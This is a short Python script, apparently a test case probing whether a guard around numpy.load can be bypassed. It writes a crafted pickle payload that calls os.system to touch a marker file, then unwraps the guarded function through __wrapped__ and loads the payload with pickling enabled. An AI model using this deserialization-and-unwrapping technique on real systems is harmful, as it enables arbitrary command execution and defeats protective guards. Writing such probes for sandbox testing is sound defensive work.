# family: guard wrappers (functools.wraps leaves __wrapped__ in the wrapper's __dict__)
# goal: unwrap numpy.load's allow_pickle guard and unpickle a call to os.system
import numpy as np

with open("payload.npy", "wb") as f:
    f.write(b"cos\nsystem\n(S'touch __MARKER_PATH__'\ntR.")
load = np.load
for unwrap in (lambda: load.__wrapped__, lambda: vars(load)["__wrapped__"], lambda: load.__dict__["__wrapped__"]):
    try:
        load = unwrap()
        break
    except (AttributeError, KeyError) as err:
        print("no unwrapped load:", repr(err))
load("payload.npy", allow_pickle=True)
